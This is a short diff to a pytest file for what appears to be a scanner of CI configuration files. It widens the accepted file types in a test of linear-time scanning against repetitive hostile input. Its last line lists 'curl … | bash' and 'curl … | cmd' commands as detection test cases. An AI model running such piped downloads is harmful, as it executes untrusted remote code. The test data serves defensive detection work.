@@ -211,7 +211,7 @@ def test_a_variable_that_a_step_sets_anew_is_the_step_s() -> None:
 def test_looking_for_jobs_takes_steps_in_proportion_to_the_text(line: str) -> None:
     # a hostile file repeats what the expressions begin with; were one of them quadratic, this would take hours
     text = line * (400_000 // len(line)) + "  script: python3 -c 1\n"
-    assert scan_bytes("x.yml", text.encode()).file_type in ("", "gitlab-ci-include")
+    assert scan_bytes("x.yml", text.encode()).file_type in ("", "gitlab-ci-include", "configuration")
 
 
 @pytest.mark.parametrize("command", ["curl -L https://x.example.org/a | bash", "curl -L https://x.example.org/a | cmd"])
